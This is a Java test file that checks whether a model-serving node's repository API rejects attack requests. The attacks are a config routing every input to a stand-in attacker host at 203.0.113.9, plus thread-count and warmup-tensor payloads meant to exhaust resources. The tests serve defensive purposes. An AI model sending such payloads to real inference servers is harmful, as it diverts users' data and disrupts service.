package io.fogline.node.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.fogline.node.FoglineNode;
import io.fogline.node.NodeOptions;
import io.fogline.node.NodeProtection;
import io.fogline.node.http.ApiRestrictions;
import io.fogline.node.http.ModelControlMode;
import io.fogline.runtime.testing.TestRepository;
import io.fogline.runtime.testing.TinyModels;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The first attack: anyone who reached a node could, with no credential, reload a model with a config that
 * sent every input to a parent of their choosing, unload it, warm it up on a [200000,784] tensor (183 MB to 1.43 GB
 * resident) or give it 2,000 threads. Each request is sent as the attacker sent it.
 */
class RepositoryApiAttackTest {

    private static final String INPUT = "{\"inputs\": [{\"name\": \"input\", \"datatype\": \"FP32\", \"shape\": [1, 4],"
            + " \"data\": [1, 2, 3, 4]}]}";

    @TempDir
    Path repository;

    private final HttpClient http = HttpClient.newHttpClient();
    private FoglineNode node;

    @BeforeEach
    void models() throws Exception {
        TinyModels.mlp(new TestRepository(repository).modelFile("fashion", 1), 4, 8, 3, 7);
    }

    @AfterEach
    void stop() {
        node.close();
    }

    private void start(NodeProtection protection) {
        node = FoglineNode.start(NodeOptions.defaults(repository)
                .withHost("127.0.0.1")
                .withHttpPort(0)
                .withProtection(protection));
    }

    private HttpResponse<String> post(String path, String body, String... headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + node.port() + path))
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String load(String config) {
        return "{\"parameters\": {\"config\": " + com.fasterxml.jackson.databind.node.TextNode.valueOf(config) + "}}";
    }

    private static final String TO_THE_ATTACKER = "{\"routing\": {\"escalate_when\": {\"max_probability_below\": 1.0},"
            + " \"parents\": [{\"name\": \"evil\", \"url\": \"http://203.0.113.9:8000\", \"model\": \"fashion\"}]}}";

    @Test
    void byDefaultTheRepositoryApiLoadsAndUnloadsNothingAsTritonsNoneMode() throws Exception {
        start(NodeProtection.defaults());

        HttpResponse<String> rewire = post("/v2/repository/models/fashion/load", load(TO_THE_ATTACKER));
        HttpResponse<String> unload = post("/v2/repository/models/fashion/unload", "");

        assertThat(rewire.statusCode()).isEqualTo(400);
        assertThat(rewire.body()).isEqualTo("{\"error\":\"" + ModelControlMode.REFUSAL + "\"}");
        assertThat(unload.statusCode()).isEqualTo(400);
        assertThat(unload.body()).isEqualTo("{\"error\":\"" + ModelControlMode.REFUSAL + "\"}");
        HttpResponse<String> answer = post("/v2/models/fashion/infer", INPUT);
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).doesNotContain("fogline_tier");
    }

    @Test
    void inExplicitModeTheOwnersKeyAndLimitsStillHold() throws Exception {
        start(NodeProtection.defaults()
                .withModelControl(ModelControlMode.EXPLICIT)
                .withRestrictions(ApiRestrictions.parse(List.of("model-repository:admin-key=s3cret")))
                .withConfigs(ConfigLimits.defaults().withMaxIntraOpThreads(4).withParentHosts(Set.of("fog.local"))));
        String[] key = {"admin-key", "s3cret"};

        HttpResponse<String> anonymous = post("/v2/repository/models/fashion/load", load(TO_THE_ATTACKER));
        HttpResponse<String> wrongKey = post("/v2/repository/models/fashion/unload", "", "admin-key", "guess");
        HttpResponse<String> rewire = post("/v2/repository/models/fashion/load", load(TO_THE_ATTACKER), key);
        HttpResponse<String> threads =
                post("/v2/repository/models/fashion/load", load("{\"intra_op_threads\": 2000}"), key);
        HttpResponse<String> warmUp = post(
                "/v2/repository/models/fashion/load",
                load("{\"warmup\": [{\"name\": \"huge\", \"inputs\": {\"input\": {\"datatype\": \"FP32\","
                        + " \"shape\": [200000, 784], \"zero_data\": true}}}]}"),
                key);

        assertThat(anonymous.statusCode()).isEqualTo(403);
        assertThat(anonymous.body()).isEqualTo("{\"error\":\"This API is restricted, expecting header 'admin-key'\"}");
        assertThat(wrongKey.statusCode()).isEqualTo(403);
        assertThat(rewire.statusCode()).isEqualTo(400);
        assertThat(rewire.body())
                .isEqualTo("{\"error\":\"config refused: parent 'evil' at http://203.0.113.9:8000 is not among this"
                        + " node's parent hosts [fog.local] (--parent-hosts)\"}");
        assertThat(threads.statusCode()).isEqualTo(400);
        assertThat(threads.body())
                .isEqualTo("{\"error\":\"config refused: intra_op_threads 2000 is over this node's limit of 4"
                        + " (--max-intra-op-threads)\"}");
        assertThat(warmUp.statusCode()).isEqualTo(400);
        assertThat(warmUp.body())
                .isEqualTo("{\"error\":\"config refused: warmup 'huge' input 'input' elements 156800000 is over this"
                        + " node's limit of 4194304 (--max-warmup-elements)\"}");
        assertThat(post("/v2/models/fashion/infer", INPUT).statusCode()).isEqualTo(200);
        assertThat(post("/v2/repository/models/fashion/load", load("{\"intra_op_threads\": 2}"), key)
                        .statusCode())
                .as("the owner's own change within the limits")
                .isEqualTo(200);
    }
}
